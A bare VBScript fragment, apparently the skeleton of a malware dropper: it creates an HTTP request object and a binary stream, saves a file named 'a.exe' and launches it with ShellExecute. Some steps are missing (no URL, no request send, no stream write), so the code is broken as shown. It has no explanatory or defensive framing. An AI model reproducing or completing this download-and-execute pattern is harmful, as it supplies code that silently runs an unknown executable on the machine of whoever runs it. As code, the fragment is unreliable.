Set x=CreateObject("WinHttp.WinHttpRequest.5.1")
Set s=CreateObject("ADODB.Stream")
s.SaveToFile "a.exe"
CreateObject("Shell.Application").ShellExecute "a.exe"
